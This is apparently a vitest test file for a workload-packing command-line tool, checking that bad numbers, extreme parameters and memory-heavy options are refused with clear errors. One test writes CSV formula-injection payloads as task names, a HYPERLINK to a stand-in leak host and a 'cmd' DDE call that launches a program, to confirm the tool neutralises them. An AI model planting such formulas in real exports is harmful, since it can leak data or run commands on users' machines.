/**
 * Hostile input on the command line: bad numbers in matrices and task lists, extreme parameters,
 * NaN CPU rates read alike by `inspect` and `reduce`; each refused with a message, quickly.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { encodeNpy, parseCsv } from '../engine/index.ts';
import { SHARED } from './testing/peer.ts';
import { cliWithErrors } from './testing/reduce.ts';

const dir = mkdtempSync(join(tmpdir(), 'slopack-hostile-'));
const FIG1 = join(import.meta.dirname, '../engine/timeline/fixtures/fig1.csv');
const SLICE = join(SHARED, 'data/google-2011-task-usage/task_usage_slice_6tasks_17intervals.csv');

/** The CLI's exit code, printed lines and what it wrote to stderr. */
const run = cliWithErrors;

describe('pack --inst refuses bad cells', () => {
  it.each([
    [NaN, false, /row 0, column 1 is not a number/],
    [1e308, true, /value 1e\+308 .* beyond float32/],
    [-0.5, false, /value -0\.5 .* is negative/],
  ])('%s', async (cell, f64, why) => {
    const path = join(dir, `x${String(cell)}.npy`);
    const data = f64
      ? new Float64Array([0.1, cell, 0.2, 0.3])
      : new Float32Array([0.1, cell, 0.2, 0.3]);
    writeFileSync(path, encodeNpy(data, [2, 2]));
    const r = await run('pack', '--inst', path);
    expect(r.code).toBe(1);
    expect(r.err).toMatch(why);
  });
});

describe('extreme parameters', () => {
  it('cluster --erlang 1e308,1,1,0.1 is refused at once; 1e5 answers by the bounded search', async () => {
    const r = await run('cluster', '--erlang', '1e308,1,1,0.1');
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/offered load λ\/μ = 1e\+308 is above 1000000/);
    const ok = await run('cluster', '--erlang', '100000,1,1,0.1', '--json');
    expect(ok.code).toBe(0);
    const n = JSON.parse(ok.out[0]).containers as number;
    expect(n).toBeGreaterThan(100000);
    expect(n).toBeLessThan(100000 + 2000);
    expect((await run('cluster', '--erlang', '0x10,1,1,0.1')).code).toBe(2);
  });

  it('simulate --window 1e308 and a task list with hex or huge times are refused', async () => {
    const w = await run('simulate', '--tasks', FIG1, '--window', '1e308', '--json');
    expect(w.code).toBe(2);
    expect(w.err).toMatch(/window must be in \[0, 1000000000\] s/);
    const hex = join(dir, 'hex.csv');
    writeFileSync(hex, 'id,arrival_s,duration_s,cpu_frac\na,0x1F,1,0.5\n');
    const h = await run('simulate', '--tasks', hex, '--json');
    expect(h.code).toBe(1);
    expect(h.err).toMatch(/line 2: field arrival_s: "0x1F" is not a decimal number/);
    const huge = join(dir, 'huge.csv');
    writeFileSync(huge, 'id,arrival_s,duration_s,cpu_frac\na,0,1e308,0.5\n');
    expect((await run('simulate', '--tasks', huge, '--json')).code).toBe(1);
  });

  it('a number option never reads hex or Infinity', async () => {
    const r = await run('simulate', '--tasks', FIG1, '--window', 'Infinity');
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/invalid --window "Infinity": not a decimal number/);
  });
});

describe('simulate --placements', () => {
  it('writes hostile task names neutralised, one cell each', async () => {
    const list = join(dir, 'names.csv');
    writeFileSync(
      list,
      'id,arrival_s,duration_s,cpu_frac\n"=HYPERLINK(""http://x.example/leak"",""y"")",0,1,0.5\n"+cmd|\' /C calc\'!A0",0,1,0.5\n@SUM(1),0,1,0.5\n-2+3,1,1,0.5\n',
    );
    const out = join(dir, 'placements.csv');
    const r = await run('simulate', '--tasks', list, '--placements', out, '--json');
    expect(r.code).toBe(0);
    const rows = parseCsv(readFileSync(out, 'utf8')).slice(1);
    expect(rows).toHaveLength(4);
    for (const { cells } of rows) {
      expect(cells).toHaveLength(4);
      expect(cells[0]).toMatch(/^'[=+@-]/);
    }
  });
});

describe('a NaN or Infinity CPU rate: one rule in inspect and reduce', () => {
  it.each(['NaN', 'Infinity'])('%s is refused by both', async (bad) => {
    const f = join(dir, `part-0000${bad.length}-of-00500.csv`);
    const lines = readFileSync(SLICE, 'utf8').split('\n');
    const cells = lines[1].split(',');
    cells[5] = bad;
    lines[1] = cells.join(',');
    writeFileSync(f, lines.join('\n'));
    const common = ['--min-records', '1', '--keep-zero-inst'];
    const inspect = await run('inspect', '--data', f, '--format', 'google', ...common);
    expect(inspect.code).toBe(1);
    const reduce = await run('reduce', '--usage', f, '--out', join(dir, `r${bad}`), ...common);
    expect(reduce.code).toBe(1);
    expect(reduce.err).toMatch(/non-finite/);
  });
});

describe('options where a machine would run away are closed', () => {
  it('tune --refine-rounds and --refine-points stop at their bounds', async () => {
    const rounds = await run('tune', '--target', '0.01', '--refine-rounds', '1e308');
    expect(rounds.code).toBe(2);
    expect(rounds.err).toMatch(/invalid refine-rounds: .*0 ≤ rounds ≤ 52/);
    const points = await run('tune', '--target', '0.01', '--refine-points', '1e6');
    expect(points.code).toBe(2);
    expect(points.err).toMatch(/invalid refine-points: .*1 ≤ points ≤ 1000/);
  });

  it('calibrate and paper refuse a pool above the memory budget before drawing it', async () => {
    const c = await run('calibrate', '--realizations', '1e6', '--pool', '2000');
    expect(c.code).toBe(2);
    expect(c.err).toMatch(
      /--realizations 1000000 with 2,000 tasks: the realized pool would take 14\.9 GiB, above the memory budget of 8 GiB/,
    );
    const small = await run(
      'calibrate',
      '--realizations',
      '1e6',
      '--pool',
      '2000',
      '--memory-budget',
      '0.5',
    );
    expect(small.err).toMatch(/memory budget of 0\.5 GiB/);
    const p = await run(
      'paper',
      '--synthetic',
      '50',
      '--realizations',
      '1e8',
      '--out',
      join(dir, 'paper'),
    );
    expect(p.code).toBe(2);
    expect(p.err).toMatch(
      /--realizations 100000000 with 50 tasks: the realized pool would take 37\.3 GiB/,
    );
  });
});

describe('assess checks samples as inspect does', () => {
  it('a sample of 1e308 is refused by both, naming the series and the point', async () => {
    const values = Array.from({ length: 30 }, (_, i) => [
      1700000000 + 60 * i,
      i === 3 ? '1e308' : '0.5',
    ]);
    const result = ['a', 'b'].map((pod) => ({
      metric: { pod, node: 'n1', namespace: 'd' },
      values,
    }));
    const path = join(dir, 'big.json');
    writeFileSync(
      path,
      JSON.stringify({ status: 'success', data: { resultType: 'matrix', result } }),
    );
    const inspect = await run('inspect', '--data', path, '--cores-per-machine', '4');
    expect(inspect.code).toBe(1);
    expect(inspect.err).toMatch(/point 4: value "1e308" is above 4 cores/);
    const assess = await run('assess', '--data', path, '--cores-per-machine', '4', '--json');
    expect(assess.code).toBe(1);
    expect(assess.err).toMatch(
      /series 1 \(.*pod=a.*\): point 4: value 1e\+308 is above the 4 cores of its node/,
    );
    expect(assess.out.join('')).not.toMatch(/null/);
  });
});
